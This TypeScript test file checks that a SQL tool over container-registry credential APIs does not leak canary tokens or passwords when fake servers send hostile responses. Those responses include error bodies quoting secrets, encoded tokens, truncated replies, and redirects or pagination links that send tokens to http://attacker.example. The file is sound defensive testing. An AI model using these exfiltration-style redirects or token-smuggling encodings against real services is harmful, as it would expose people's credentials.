import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { RecordedRequest } from '../../src/demo/fakes/fake-request.ts'
import type { Fault } from '../../src/demo/fakes/fault.ts'
import { setField } from '../../src/demo/fakes/transforms.ts'
import type { RunOptions } from '../../src/session/options.ts'
import { canarySecret, Watch } from './canary.ts'
import { accessKey, startCanaryWorld } from './canary-world.ts'
import { runWatched } from './run-watched.ts'
import { shared } from './statements.ts'

const petra = canarySecret('password/petra')
const tokens = [
  canarySecret('digitalocean/account token'),
  canarySecret('opaque/humanitec token'),
  canarySecret('opaque/cattle secret key'),
  accessKey,
]
const basic = Buffer.from(`${accessKey}:${canarySecret('opaque/cattle secret key')}`).toString('base64')
const bearers = tokens.map((token) => `Authorization: Bearer ${token}`).join(', ')

/** Every way in which an answer may quote what credsql knows by then: its own credentials, and what it has read. */
const quotes: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'the headers', text: `${bearers}, Authorization: Basic ${basic}` },
  { name: 'a token behind much text', text: `${'because '.repeat(35)}${tokens.join(' ')}` },
  {
    name: 'a token in base64',
    text: tokens.map((token) => Buffer.from(`${token}`).toString('base64')).join(' '),
  },
  { name: 'a token percent-encoded', text: tokens.map(encodeURIComponent).join('&') },
  { name: 'a token in JSON in JSON', text: JSON.stringify(JSON.stringify({ petra, tokens })) },
  { name: 'a secret that was read', text: `no login with ${shared} and ${petra}` },
  { name: 'user and password in base64', text: Buffer.from(`ci:${shared}`).toString('base64') },
]

/** The address that an answer gives for itself; those that give none have no pages. */
function selfOf(body: unknown): unknown {
  const { links } = body as { links?: { self?: unknown } }
  return links?.self
}

const html = (text: string) => `<!doctype html><html><body><pre>${text}</pre></body></html>`
const answers = (text: string): readonly { readonly name: string; readonly fault: Fault }[] => [
  ...[400, 401, 403, 404, 409, 422, 500].map((status) => ({
    name: `${status} with JSON`,
    fault: {
      kind: 'status' as const,
      status,
      body: {
        type: 'error',
        status,
        message: text,
        error: text,
        code: text,
        detail: text,
        fieldName: text,
        id: text,
      },
    },
  })),
  { name: '503 with JSON', fault: { kind: 'status', status: 503, body: { message: text }, times: Infinity } },
  { name: '500 with text', fault: { kind: 'status', status: 500, body: text } },
  { name: '401 with HTML', fault: { kind: 'status', status: 401, body: html(text) } },
  { name: '200 with HTML', fault: { kind: 'status', status: 200, body: html(text) } },
  { name: '200 with text', fault: { kind: 'status', status: 200, body: text } },
  { name: '200 with a JSON text', fault: { kind: 'status', status: 200, body: JSON.stringify(text) } },
  {
    name: '200 with a list of texts',
    fault: { kind: 'status', status: 200, body: { data: [text], registries: [text] } },
  },
  {
    name: '429 for hours',
    fault: { kind: 'rate_limited', retryAfter: 99_999, body: { message: text }, times: Infinity },
  },
  {
    name: 'a redirect elsewhere',
    fault: {
      kind: 'status',
      status: 302,
      headers: { location: `http://attacker.example/?t=${encodeURIComponent(text)}` },
    },
  },
  {
    name: 'a redirect to nowhere',
    fault: { kind: 'status', status: 307, headers: { location: `http://[${encodeURIComponent(text)}` } },
  },
  {
    name: 'a next page elsewhere',
    fault: { kind: 'transform', change: setField('pagination.next', `http://attacker.example/?t=${text}`) },
  },
  {
    name: 'a next page that is no address',
    fault: { kind: 'transform', change: setField('pagination.next', `http://[${text}`) },
  },
  {
    name: 'a next page that is an object',
    fault: { kind: 'transform', change: setField('pagination.next', { text }) },
  },
  {
    name: 'a next page that repeats',
    fault: {
      kind: 'transform',
      change: (body) =>
        setField('pagination.next', `${selfOf(body)}?marker=${encodeURIComponent(text)}`)(body),
      times: Infinity,
    },
  },
  ...[
    'data',
    'data.0',
    'data.1.id',
    'data.1.created',
    'data.1.secretValue',
    'password',
    'username',
    '',
  ].flatMap((path) =>
    [
      { name: 'an object', value: { text } },
      { name: 'a list', value: [text] },
      { name: 'a text', value: text },
    ].map(({ name, value }) => ({
      name: `${path === '' ? 'the body' : path} is ${name}`,
      fault: { kind: 'transform' as const, change: setField(path, value) },
    })),
  ),
]

const truncated: readonly { readonly name: string; readonly fault: Fault }[] = [
  ...Array.from({ length: 40 }, (_, i) => ({
    name: `cut after ${60 + i * 23} characters`,
    fault: { kind: 'truncated' as const, keep: 60 + i * 23 },
  })),
  { name: 'reset', fault: { kind: 'reset', times: Infinity } },
  { name: 'reset after the headers', fault: { kind: 'reset_after_headers', times: Infinity } },
]

const statements: readonly { readonly sql: string; readonly options?: RunOptions }[] = [
  { sql: 'SELECT id, name, created, secret_value FROM all_rancher.registry_credentials' },
  { sql: 'SELECT registry_id, username, password FROM humanitec.registry_credentials' },
  { sql: 'SELECT * FROM digitalocean.registry_docker_credentials', options: { allowMint: true } },
  { sql: `EXPLAIN ANALYZE SELECT id FROM rancher.registry_credentials WHERE secret_value = '${shared}'` },
]

const isCreds = (request: RecordedRequest) => request.path.includes('creds') || request.path.includes('cred')

describe('whatever an answer holds', { concurrency: 2 }, () => {
  for (const { name, faults } of [
    ...quotes.map((quote) => ({ name: `quotes ${quote.name}`, faults: answers(quote.text) })),
    { name: 'is cut', faults: truncated },
  ])
    test(`no secret is given away where an answer ${name}`, async (t) => {
      const world = await startCanaryWorld(t)
      const watch = new Watch()
      const fakes = [world.digitalocean, world.rancher, world.rancherEu, world.humanitec]
      const session = await world.open(t)
      // What the API has told once is known, and must not be shown when the API quotes it later.
      for (const { sql, options } of statements)
        assert.equal(await runWatched(session, sql, options ?? {}, watch), undefined)
      let failures = 0
      for (const { fault } of faults) {
        for (const { sql, options } of statements)
          for (const partial of [false, true]) {
            const set = fakes.map((fake) => fake.inject({ ...fault, match: isCreds }))
            const end = await runWatched(session, sql, { ...options, partial }, watch)
            if (end !== undefined) failures += 1
            for (const one of set) one.remove()
          }
      }
      await session.close()
      await world.watchFiles(watch)
      assert.deepEqual(watch.leaks.slice(0, 10), [])
      assert.ok(failures > faults.length)
    })
})
